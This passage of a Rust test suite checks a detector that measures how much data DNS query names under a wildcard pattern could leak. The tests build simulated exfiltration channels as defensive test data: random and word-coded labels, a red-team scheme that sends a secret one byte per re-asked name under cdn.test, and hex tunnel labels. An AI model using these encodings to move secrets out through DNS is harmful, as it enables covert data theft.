        assert_eq!(under("x.github.io", "*.github.io"), "github.io");
        assert_eq!(under("a.b.github.io", "*.github.io"), "github.io");
        assert_eq!(
            under("x.api.example.com", "*.api.example.com"),
            "example.com"
        );
        assert_eq!(under("a.b.example.com", "*.example.com"), "example.com");
        assert_eq!(
            under("img-7.cdn.shop.co.uk", "img-*.cdn.shop.co.uk"),
            "shop.co.uk"
        );
        assert_eq!(under("x.co.uk", "*.co.uk"), "co.uk");
        assert_eq!(under("a.b.test", "*"), "test");
        assert_eq!(
            under("b1.s3.amazonaws.com", "*.amazonaws.com"),
            "s3.amazonaws.com"
        );
        assert_eq!(under("a.b.test", "a.b.test"), "b.test");
        // psl.py: one 63-char [a-z0-9] label per name right under github.io.
        const ALPHABET: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789";
        let mut rng = 3u64;
        let names: Vec<String> = (0..2000)
            .map(|_| {
                let label: String = (0..63)
                    .map(|_| {
                        rng = rng
                            .wrapping_mul(6364136223846793005)
                            .wrapping_add(1442695040888963407);
                        ALPHABET[((rng >> 33) % 36) as usize] as char
                    })
                    .collect();
                label + ".github.io"
            })
            .collect();
        let (before, after) = leaked(&names, "*.github.io", 63.0 * 36f32.log2());
        eprintln!("public suffix: {before} bytes before, {after} after (hard {HARD})");
        assert!(before > 4.0 * HARD, "positive control: {before}");
        assert!(after < HARD, "{after}");
    }

    #[test]
    fn reused_labels_are_charged_for_the_choice_they_carry() {
        // 256 words, 8 a name: 64 bits of payload a name.
        let words: Vec<String> = (0..256).map(|i| format!("w{i:03}")).collect();
        let mut rng = 3u64;
        let names: Vec<String> = (0..8000)
            .map(|_| {
                let mut n = String::new();
                for _ in 0..8 {
                    rng = rng
                        .wrapping_mul(6364136223846793005)
                        .wrapping_add(1442695040888963407);
                    n.push_str(&words[(rng >> 56) as usize]);
                    n.push('.');
                }
                n + "cdn.test"
            })
            .collect();
        let (before, after) = leaked(&names, "*.cdn.test", 64.0);
        eprintln!("reused labels: {before} bytes before, {after} after (hard {HARD})");
        assert!(before > 2.0 * HARD, "positive control: {before}");
        assert!(after < HARD, "{after}");
    }

    /// The red team's re-ask channel: 256 names paid once, then one byte of
    /// the secret per question, each the choice of an already-seen name
    /// (TTL 0 answers send every one upstream).
    #[test]
    fn re_asked_names_are_charged_for_the_choice_they_carry() {
        let names: Vec<String> = (0..=255u8).map(|i| format!("{i:02x}.cdn.test")).collect();
        let mut rng = 5u64;
        let secret: Vec<u8> = (0..65_536)
            .map(|_| {
                rng = rng
                    .wrapping_mul(6364136223846793005)
                    .wrapping_add(1442695040888963407);
                (rng >> 56) as u8
            })
            .collect();
        let asked: Vec<String> = names
            .iter()
            .cloned()
            .chain(secret.iter().map(|&byte| names[usize::from(byte)].clone()))
            .collect();
        // 8 bits a question, the 256 purchases carry none.
        let (before, after) = leaked(&asked, "*.cdn.test", 8.0);
        let (before, after) = (before - 256.0, after - 256.0);
        eprintln!("re-asked names: {before} bytes before, {after} after (hard {HARD})");
        assert!(before >= 65_536.0, "positive control: {before}");
        assert!(after < HARD, "{after}");
    }

    /// Tunnel-shaped names (300 unique 40-hex labels, ~6 KB, under the soft
    /// limit) are flagged within the first few; no legitimate name is.
    #[test]
    fn tunnel_shaped_names_are_flagged_early_and_the_corpus_never() {
        let facts = PatternFacts::of("*.cdn.test");
        let mut rng = 9u64;
        let names: Vec<String> = (0..300)
            .map(|_| {
                let label: String = (0..40)
                    .map(|_| {
                        rng = rng
                            .wrapping_mul(6364136223846793005)
                            .wrapping_add(1442695040888963407);
                        b"0123456789abcdef"[(rng >> 60) as usize] as char
                    })
                    .collect();
                format!("{label}.t.cdn.test")
            })
            .collect();
        let first_mark = |legacy: bool| {
            let b = Budgets {
                legacy,
                ..Budgets::default()
            };
            names.iter().position(|n| {
                b.charge(&"a".into(), &Limits::default(), &name(n), &key(n), facts, 5)
                    != Verdict::Pass(None)
            })
        };
        assert_eq!(first_mark(true), None, "positive control: silent before");
        assert_eq!(first_mark(false), Some(SHAPE_NAMES as usize - 1));

        let corpus = std::fs::read_to_string(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/tests/data/legit-names.txt"
        ))
        .unwrap();
        let (mut shaped, mut top) = (0, 0.0f32);
        for n in corpus.lines() {
            let bits = n
                .split('.')
                .map(|l| run_bits(l.as_bytes()))
                .fold(0.0, f32::max);
            top = top.max(bits);
            shaped += usize::from(bits > SHAPE_RUN_BITS);
        }
        eprintln!(
            "tunnel shape: {shaped} of {} corpus names (longest run {top} bits)",
            corpus.lines().count()
        );
        assert_eq!(shaped, 0);
        assert!(top > 100.0, "positive control: the corpus has long ids");
    }
}
